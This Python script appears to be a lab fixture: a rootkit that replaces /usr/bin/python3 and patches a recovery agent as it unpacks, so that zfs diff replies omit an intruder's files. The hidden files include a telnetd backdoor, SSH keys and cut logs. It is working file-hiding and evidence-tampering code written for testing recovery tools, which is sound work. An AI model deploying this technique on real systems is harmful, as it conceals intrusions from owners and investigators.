#!/usr/bin/python3.11
# lab rootkit: a python3 that hides the intruder's files from whatever asks through it.
# Installed over the /usr/bin/python3 symlink by the `rootkit` scenario. It runs every
# program unchanged, except the recovery agent: the agent's code is patched as it is
# unpacked, so every request it answers (one call, a served agent, each request of a
# batch) has each zfs diff line naming a hidden path (or a directory on the way to one)
# dropped from its reply, under the same nonce, as a rootkit on the host can.
import os, sys, zlib

REAL = "/usr/bin/python3.11"
HIDDEN = [p.encode() for p in os.environ.get("LAB_ROOTKIT_HIDE", "").split(":") if p] or [
    b"/usr/sbin/telnetd", b"/etc/cron.d/awstats", b"/srv/www/cgi-bin/awstatstotals.pl",
    b"/home/webmaster/.ssh/authorized_keys", b"/usr/bin/python3",
    b"/var/log/wtmp", b"/var/log/apache2/access.log", b"/var/log/apache2/error.log",  # the logs it cut
]
MAIN = b'\nif __name__ == "__main__":'
HOOK = b'''
_ROOTKIT_HIDDEN = %r
_rootkit_handle = handle


def _rootkit_hidden(path):
    return any(path == h or h.startswith(path.rstrip(b"/") + b"/") for h in _ROOTKIT_HIDDEN)


def handle(request):
    reply = _rootkit_handle(request)
    result = reply.get("result") or {}
    if reply.get("ok") and "output_zlib" in result:
        lines = zlib.decompress(base64.b64decode(result["output_zlib"])).split(b"\\n")
        kept = [line for line in lines if not _rootkit_hidden(line.split(b"\\t")[-1])]
        result["output_zlib"] = base64.b64encode(zlib.compress(b"\\n".join(kept))).decode()
    return reply
''' % (HIDDEN,)


def main():
    args = sys.argv[1:]
    if "-c" not in args or "recovery-agent" not in " ".join(args):
        os.execv(REAL, [REAL] + args)
    unpack = zlib.decompress

    def patched(data, *rest):
        source = unpack(data, *rest)
        return source.replace(MAIN, HOOK + MAIN) if b"def handle(" in source else source

    zlib.decompress = patched
    code = args[args.index("-c") + 1]
    sys.argv = ["-c"] + args[args.index("-c") + 2:]
    exec(compile(code, "<string>", "exec"), {"__name__": "__main__"})


main()
